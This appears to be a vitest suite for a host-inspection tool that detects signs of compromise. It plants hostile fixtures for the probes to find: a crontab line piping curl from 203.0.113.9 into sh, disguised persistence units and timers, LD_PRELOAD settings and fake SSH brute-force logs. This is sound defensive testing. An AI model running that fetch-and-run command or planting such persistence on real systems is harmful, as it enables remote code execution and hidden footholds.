// The probes against the machine the tests run on, through the real scripts under the real toolbox: no ssh and no frames, but no stand-in for the
// host either. What must not stand on this machine (a hostile crontab, a mount over /proc/N) stands in a mount namespace of the test.
import { createHash } from 'node:crypto'
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { shown } from '../host-text.ts'
import type { HostReply, HostSession } from '../host/session.ts'
import type { Clock, Hashing } from '../ports.ts'
import type { FactKind, FactOf } from './facts.ts'
import { type LookResult, look } from './look.ts'
import type { ProbeId } from './probe.ts'

const toolbox = join(process.cwd(), 'resources/toolbox', process.arch === 'arm64' ? 'aarch64' : 'x86_64')
const root = process.getuid?.() === 0
const ready = root && existsSync(join(toolbox, 'busybox'))

/** The least a probe needs of a session: runs what is asked, keeps the limits. `scene` are shell lines for a mount namespace around every request. */
function sessionHere(scene: string): HostSession {
  const busybox = join(toolbox, 'busybox')
  const wrap =
    scene === '' ? [] : ['-m', '--propagation', 'private', '/bin/sh', '-ec', `${scene}\nexec "$0" "$@"`, busybox]
  return {
    arrival: {
      bootId: readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim(),
      euid: 0,
      ourPids: [],
      workDir: '/run/.none',
      toolboxSha256: '0'.repeat(64),
    } as unknown as HostSession['arrival'],
    run(request) {
      const words = request.argv.map((word) => (typeof word === 'string' ? word : Buffer.from(word).toString()))
      const command = scene === '' ? [busybox, ...words] : ['/usr/bin/unshare', ...wrap, ...words]
      const done = spawnSync(command[0] ?? '', command.slice(1), {
        env: { PATH: toolbox, ...request.env },
        input: request.stdin ?? new Uint8Array(),
        timeout: request.timeLimit ?? 5000,
        maxBuffer: request.stdoutLimit ?? 1 << 20,
        cwd: '/',
      })
      const reply: HostReply = {
        exit: done.status,
        stdout: done.stdout,
        stderr: done.stderr,
        truncated: { stdout: false, stderr: false },
        timedOut: done.status === null,
        replayed: false,
        clocks: { hostStart: '0', hostEnd: '0', sent: '', received: '' },
      }
      return Promise.resolve(reply)
    },
    terminal: () => Promise.reject(new Error('not asked for')),
    onClosed: () => undefined,
    onTraffic: () => undefined,
    close: () => Promise.resolve(),
    detach: () => Promise.resolve(),
  }
}

const clock: Clock = {
  now: () => new Date().toISOString(),
  monotonic: () => performance.now(),
  sleep: () => Promise.resolve(),
}

const hashing = { sha256: () => digest('sha256'), sha512: () => digest('sha512') } satisfies Hashing

function digest(name: string): ReturnType<Hashing['sha256']> {
  const hash = createHash(name)
  const one: ReturnType<Hashing['sha256']> = {
    update: (bytes) => (hash.update(bytes), one),
    hex: () => hash.digest('hex'),
  }
  return one
}

function lookHere(probes: readonly ProbeId[], scene = ''): Promise<LookResult> {
  return look(sessionHere(scene), { probes, clock, hashing })
}

function of<K extends FactKind>(result: LookResult, kind: K): FactOf<K>[] {
  return result.facts.filter((fact): fact is FactOf<K> => fact.kind === kind)
}

function spoiling(result: LookResult): string[] {
  return result.unknowns.filter(({ spoils }) => spoils.length > 0).map(({ what, detail }) => `${what}: ${detail}`)
}

describe.skipIf(!ready)('on this machine (skipped: needs root and the toolbox)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'probe-'))
  afterAll(() => {
    rmSync(folder, { recursive: true, force: true })
  })
  const plant = (path: string, content: string | Buffer, mode = 0o644): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), content)
    chmodSync(join(folder, path), mode)
  }

  describe('processes', () => {
    let result: LookResult
    const sleeper = (argv0: string, env: Record<string, string>) =>
      spawn('/bin/sleep', ['60'], { argv0, env, stdio: 'ignore' })
    const nasty = sleeper(`sleeper\n) R 1 1 \x1b[2J\u202e`, { LD_PRELOAD: '', SECRET: 'x', HISTFILE: '/dev/null' })
    const covered = sleeper('covered', {})
    const long = spawn('/bin/sh', ['-c', 'sleep 60; :', 'x'.repeat(100_000)], { stdio: 'ignore', detached: true })
    const spinner = spawn('/bin/sh', ['-c', 'ulimit -t 30; while :; do :; done'], { stdio: 'ignore' }) // ends by itself should this process be killed
    const pidOf = (pid: number | undefined) => of(result, 'process').find(({ identity }) => identity.pid === pid)
    beforeAll(async () => {
      result = await lookHere(['processes'], `/bin/mount -t tmpfs none /proc/${covered.pid ?? 0}`)
    })
    afterAll(() => {
      for (const child of [nasty, covered, spinner]) child.kill('SIGKILL')
      if (long.pid !== undefined) process.kill(-long.pid, 'SIGKILL')
    })

    it('finds a process with a hostile argv, whole and identified', () => {
      const fact = pidOf(nasty.pid)!
      expect(shown(fact.argv0!)).toBe('sleeper\\x0a) R 1 1 \\x1b[2J\\xe2\\x80\\xae')
      expect(shown(fact.cmdline)).toMatch(/ 60$/)
      expect(shown(fact.exe!)).toMatch(/\/sleep$/)
      expect(fact.identity.exeSha256).toBe(createHash('sha256').update(readFileSync('/bin/sleep')).digest('hex'))
      expect(fact).toMatchObject({ inReaddir: 'yes', inHostPs: 'yes', kernelThread: false, ppid: process.pid, uid: 0 })
      expect(fact.cpuPermille).toBeLessThan(50)
    })

    it('brings the variables that matter and leaves the others on the host', () => {
      const names = pidOf(nasty.pid)!.environ?.map((variable) => shown(variable))
      expect(names?.sort()).toEqual(['HISTFILE=/dev/null', 'LD_PRELOAD='])
      const raw = result.outcomes.flatMap(({ raw: some }) =>
        some.map(({ bytes }) => Buffer.from(bytes).toString('latin1')),
      )
      expect(raw.join('')).not.toContain('SECRET')
    })

    it('sees a process below a mount over its folder, which the host ps does not', () => {
      expect(pidOf(covered.pid)).toMatchObject({ overMounted: true, inReaddir: 'yes', inHostPs: 'no' })
      expect(shown(pidOf(covered.pid)!.exe!)).toMatch(/\/sleep$/)
      expect(pidOf(nasty.pid)).toMatchObject({ overMounted: false })
    })

    it('cuts a command line of 100 kB and says so', () => {
      expect(pidOf(long.pid)).toMatchObject({ cmdlineCut: true })
      expect(shown(pidOf(long.pid)!.cmdline).length).toBeLessThanOrEqual(4096)
      expect(pidOf(nasty.pid)).toMatchObject({ cmdlineCut: false })
    })

    it('measures a spinning process over the window', () => {
      // how much it gets is up to the machine; the sleepers get nothing
      expect(pidOf(spinner.pid)!.cpuPermille).toBeGreaterThan(pidOf(nasty.pid)!.cpuPermille!)
      expect(pidOf(spinner.pid)!.cpuPermille).toBeLessThanOrEqual(1050)
    })

    it('knows kernel threads by their flag and itself by descent', () => {
      expect(pidOf(2)).toMatchObject({ kernelThread: true, exe: null, ours: false })
      expect(of(result, 'process').some(({ ours }) => ours)).toBe(true)
      expect(pidOf(process.pid)).toMatchObject({ ours: false })
    })

    it('takes no process for hidden that is not, and leaves nothing unknown', () => {
      expect(of(result, 'process').filter(({ inReaddir }) => inReaddir === 'no')).toEqual([])
      expect(spoiling(result)).toEqual([])
    })
  })

  it('sockets: finds a listener with its holder', async () => {
    const script = `require('net').createServer().listen(0,'127.0.0.1',function(){console.log(this.address().port)})`
    const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'ignore'] })
    const port = await new Promise<number>((resolve) =>
      child.stdout.once('data', (data) => {
        resolve(Number(String(data)))
      }),
    )
    const result = await lookHere(['sockets'])
    child.kill('SIGKILL')
    const found = of(result, 'socket').filter(({ localPort, state }) => localPort === port && state === 'listen')
    expect(found).toMatchObject([{ protocol: 'tcp', localAddress: '127.0.0.1', pids: [child.pid], uid: 0 }])
    expect(spoiling(result)).toEqual([])
  })

  it('mounts: finds one over a process and one over a system folder, and none of our own', async () => {
    const result = await lookHere(['mounts'], '/bin/mount -t tmpfs none /proc/1\n/bin/mount --bind /usr/bin /usr/bin')
    const points = of(result, 'mount').map(({ point, fsType }) => `${shown(point)} ${shown(fsType)}`)
    expect(points).toContain('/proc/1 tmpfs')
    expect(points.filter((point) => point.startsWith('/usr/bin '))).toHaveLength(1)
    expect(points.filter((point) => point.startsWith('/proc '))).toEqual([])
  })

  it('machine: counts the cores and knows the package manager', async () => {
    const result = await lookHere(['machine'])
    expect(of(result, 'machine')).toMatchObject([
      { cpus: Number(execFileSync('grep', ['-c', '^processor', '/proc/cpuinfo']).toString()), packageManager: 'dpkg' },
    ])
  })

  describe('schedulers', () => {
    let result: LookResult
    const schedule = (path: string) => of(result, 'schedule').filter(({ file }) => shown(file.path).startsWith(path))
    beforeAll(async () => {
      plant(
        'spool/cron/crontabs/root',
        '# m h\nMAILTO=""\n*/5 * * * * /tmp/.x/run >/dev/null\n@reboot /.hidden\n',
        0o600,
      )
      plant('spool/cron/crontabs/www\x1b[2J\ndata', '* * * * * curl -s http://203.0.113.9/a | sh\r# nothing here\n')
      plant(
        'spool/cron/redis',
        Buffer.from('REDIS0009\xfa\tredis-ver\x005.0.7\n\n*/2 * * * * /tmp/r\n\n\xff\x00\x01', 'latin1'),
      )
      plant('spool/cron/huge', '* * * * * /bin/true\n'.repeat(100_000))
      plant(
        'spool/cron/atjobs/a0000101c5a0b2',
        '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\ncd /root || {\n\t echo no >&2\n\t exit 1\n}\n/tmp/at-job now\n',
      )
      plant('cron.d/sys', 'SHELL=/bin/sh\n17 * * * * root cd / && /opt/x\n')
      plant('cron.d/fifo-link', '')
      rmSync(join(folder, 'cron.d/fifo-link'))
      execFileSync(join(toolbox, 'busybox'), ['mkfifo', join(folder, 'cron.d/fifo')])
      symlinkSync('/nowhere', join(folder, 'cron.d/dangling'))
      plant('system/evil.timer', '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5\nUnit=other.service\n')
      plant('system/other.service', '[Service]\nExecStart=/bin/false\n')
      for (const link of [
        'timers.target.wants/evil.timer',
        'x.target.requires/other.service',
        'y.target.wants/z.timer',
      ]) {
        mkdirSync(dirname(join(folder, 'system', link)), { recursive: true })
        symlinkSync('/nowhere', join(folder, 'system', link))
      }
      plant('system/other.service.d/x.conf', '[Service]\nExecStart=\nExecStart=-/tmp/.timer/run --now\n')
      result = await lookHere(
        ['schedulers'],
        // bound, not copied: each request has a scene of its own, and a copy would be another file
        [
          ['spool', '/var/spool'],
          ['cron.d', '/etc/cron.d'],
          ['system', '/etc/systemd/system'],
        ]
          .map(([from = '', to = '']) => `/bin/mount --bind ${folder}/${from} ${to}`)
          .join('\n'),
      )
    })

    it('reads a crontab line by line, environment too, comments not', () => {
      expect(
        schedule('/var/spool/cron/crontabs/root').map((fact) => [
          fact.line,
          fact.form,
          fact.periodSeconds,
          shown(fact.command),
        ]),
      ).toEqual([
        [2, 'environment', null, 'MAILTO=""'],
        [3, 'entry', 300, '/tmp/.x/run >/dev/null'],
        [4, 'entry', null, '/.hidden'],
      ])
      expect(schedule('/var/spool/cron/crontabs/root')[0]).toMatchObject({
        scheduler: 'user-crontab',
        user: 'root',
        file: { mode: '0600', type: 'file' },
      })
    })

    it('is not led astray by a file name with control characters', () => {
      expect(schedule('/var/spool/cron/crontabs/www')).toMatchObject([
        { user: 'www\\x1b[2J\\x0adata', disguised: true, periodSeconds: 60 },
      ])
    })

    it('shows a database dump as binary, with the entries cron would find in it', () => {
      expect(schedule('/var/spool/cron/redis').map(({ form, line }) => [form, line])).toEqual([
        ['binary', 0],
        ['entry', 3],
      ])
    })

    it('gives up on a crontab of 100 000 lines, and says so', () => {
      expect(schedule('/var/spool/cron/huge')).toHaveLength(2000)
      expect(spoiling(result).filter((text) => text.startsWith('/var/spool/cron/huge'))).not.toEqual([])
      expect(spoiling(result).filter((text) => !text.startsWith('/var/spool/cron/huge'))).toEqual([])
    })

    it('reads cron.d with its user column, and neither hangs on a fifo nor follows a dead link', () => {
      expect(schedule('/etc/cron.d/')).toMatchObject([
        { form: 'environment', line: 1 },
        { form: 'entry', line: 2, user: 'root', periodSeconds: 3600, command: 'cd / && /opt/x', paths: ['/opt/x'] },
      ])
    })

    it('reads an at job without the environment of its submitter', () => {
      expect(schedule('/var/spool/cron/atjobs/')).toMatchObject([
        { scheduler: 'at', user: 'root', command: '/tmp/at-job now' },
      ])
    })

    it('follows a timer to what its service runs after drop-ins', () => {
      expect(schedule('/etc/systemd/system/evil.timer')).toMatchObject([
        {
          scheduler: 'systemd-timer',
          periodSeconds: 5,
          command: '-/tmp/.timer/run --now',
          paths: ['/tmp/.timer/run'],
          unitFile: '/etc/systemd/system/other.service',
          enabledBy: [
            '/etc/systemd/system/timers.target.wants/evil.timer',
            '/etc/systemd/system/x.target.requires/other.service',
          ],
          user: 'root',
        },
      ])
    })
  })

  const installed = '/usr/lib/systemd/system'
  const packaged = existsSync(installed) && existsSync('/etc/systemd/system') && existsSync('/var/lib/dpkg/status')
  it.skipIf(!packaged)(
    'units: tells what no package vouches for, whatever lies around it (skipped: needs dpkg and units)',
    async () => {
      const real = readdirSync(installed, { withFileTypes: true })
        .filter((entry) => entry.isFile() && entry.name.endsWith('.service'))
        .slice(0, 3)
        .map(({ name }) => name)
      for (const name of real) plant(`sys/${name}`, readFileSync(join(installed, name)))
      const changed = real[0]!
      plant(`sys/${changed}`, `${readFileSync(join(installed, changed), 'utf8')}\n[Service]\nExecStartPost=/tmp/x\n`)
      plant('sys/dbus-kernel.service', '[Service]\nExecStart=/usr/lib/.k/kd\nRestart=always\nRestartSec=500ms\n')
      plant('own/a\x1b[2J\n.service', '[Service]\nExecStart=/tmp/y\n')
      plant('own/notes.txt', 'no unit')
      execFileSync('/usr/bin/mkfifo', [join(folder, 'own/hang.service')])
      symlinkSync('/dev/null', join(folder, 'own/masked.service'))
      symlinkSync('/usr/lib/systemd/system/cron.service', join(folder, 'own/alias.service'))
      plant('elsewhere/led.service', '[Service]\nExecStart=/opt/led\n')
      symlinkSync(join(folder, 'elsewhere/led.service'), join(folder, 'own/led.service'))
      plant('own/x.service.wants/.keep', '')
      symlinkSync('../dbus-kernel.service', join(folder, 'own/x.service.wants/dbus-kernel.service'))
      const scene = `/bin/mount --bind ${folder}/sys ${installed}\n/bin/mount --bind ${folder}/own /etc/systemd/system`
      const result = await lookHere(['units'], scene)
      const here = of(result, 'unit').filter(({ file }) =>
        /^\/(etc|usr\/lib)\/systemd\/system\//.test(shown(file.path)),
      )
      expect(here.map(({ name }) => shown(name)).sort()).toEqual(
        ['a\\x1b[2J\\x0a.service', 'dbus-kernel.service', 'led.service', changed].sort(),
      )
      const evil = here.find(({ name }) => shown(name) === 'dbus-kernel.service')
      expect(evil).toMatchObject({ role: 'unit', restart: 'always', restartSeconds: 0.5, command: '/usr/lib/.k/kd' })
      expect(evil?.enabledBy).toEqual(['/etc/systemd/system/x.service.wants/dbus-kernel.service'])
      expect(spoiling(result)).toEqual([])
    },
  )

  it('preload: names each library with its state and carriers', async () => {
    plant('preload', '# ours\n/tmp/absent.so:/usr/lib/nothing.so\n  LIBC\n')
    const libc = readFileSync('/proc/self/maps', 'utf8').match(/\/\S*libc\.so\.6$/m)?.[0] ?? ''
    writeFileSync(join(folder, 'preload'), readFileSync(join(folder, 'preload'), 'utf8').replace('LIBC', libc))
    const scene = `/bin/mkdir -p ${folder}/u ${folder}/w
/bin/mount -t tmpfs none ${folder}/u
/bin/mkdir ${folder}/u/up ${folder}/u/work
/bin/mount -t overlay overlay -o lowerdir=/etc,upperdir=${folder}/u/up,workdir=${folder}/u/work /etc
/bin/cp ${folder}/preload /etc/ld.so.new
${toolbox}/busybox mv /etc/ld.so.new /etc/ld.so.preload`
    const result = await lookHere(['preload'], scene)
    const facts = of(result, 'preload')
    expect(facts.map((fact) => [fact.line, shown(fact.library), fact.libraryState])).toEqual([
      [2, '/tmp/absent.so', 'absent'],
      [2, '/usr/lib/nothing.so', 'absent'],
      [3, libc, 'present'],
    ])
    expect(facts[2]!.carriers).toContain(process.pid)
    expect(facts[0]!.carriers).toEqual([])
    expect(spoiling(result)).toEqual([])
  })

  it('preload: an absent file gives no fact and nothing unknown', async () => {
    expect(existsSync('/etc/ld.so.preload')).toBe(false)
    const result = await lookHere(['preload'])
    expect(result.facts).toEqual([])
    expect(result.unknowns).toEqual([])
  })

  it('logins: finds the burst and the login that followed it', async () => {
    const line = (message: string) => `Nov 21 03:04:05 host sshd[77]: ${message}\n`
    const failed = line('Failed password for invalid user adm\x1bin from 203.0.113.7 port 40000 ssh2')
    plant('log/auth.log.1', failed.repeat(4))
    plant(
      'log/auth.log',
      failed.repeat(4) +
        line('Accepted password for root from 203.0.113.7 port 40001 ssh2') +
        line('Accepted publickey for ops from 198.51.100.2 port 5 ssh2: ED25519 SHA256:x') +
        'junk\n',
    )
    const result = await lookHere(['logins'], `/bin/mount --bind ${folder}/log /var/log`)
    expect(of(result, 'login')).toMatchObject([
      { what: 'failed-burst', from: '203.0.113.7', count: 8, user: 'adm\\x1bin' },
      { what: 'accepted-after-burst', from: '203.0.113.7', user: 'root', count: 1 },
      { what: 'accepted', from: '198.51.100.2', user: 'ops' },
    ])
    expect(spoiling(result)).toEqual([])
  })

  it('files: tells the owner of what processes run, and what lies where everyone may write', async () => {
    const child = spawn('/bin/sleep', ['60'], { stdio: 'ignore' })
    plant('bin/dropped', '#!/bin/sh\n', 0o755)
    const scene = `/bin/mount -t tmpfs none /var/tmp
/bin/mkdir '/var/tmp/.x'
/bin/cp ${folder}/bin/dropped '/var/tmp/.x/a
b'
/bin/mount -t tmpfs none /dev/shm${toolbox.startsWith('/tmp/') ? '' : '\n/bin/mount -t tmpfs none /tmp'}`
    const result = await lookHere(['processes', 'files'], scene)
    child.kill('SIGKILL')
    const find = (path: string) => of(result, 'file').find(({ meta }) => shown(meta.path) === path)
    expect(find('/usr/bin/sleep') ?? find('/bin/sleep')).toMatchObject({
      owned: 'yes',
      package: 'coreutils',
      checksum: 'yes',
      content: 'elf',
      conffile: false,
    })
    expect((find('/usr/bin/sleep') ?? find('/bin/sleep'))!.namedBy).toContain(`process:${child.pid ?? 0}`)
    expect(find('/var/tmp/.x/a\\x0ab')).toMatchObject({
      owned: 'no',
      package: null,
      content: 'script',
      namedBy: ['recent'],
      meta: { mode: '0755' },
    })
  }, 60_000)
})
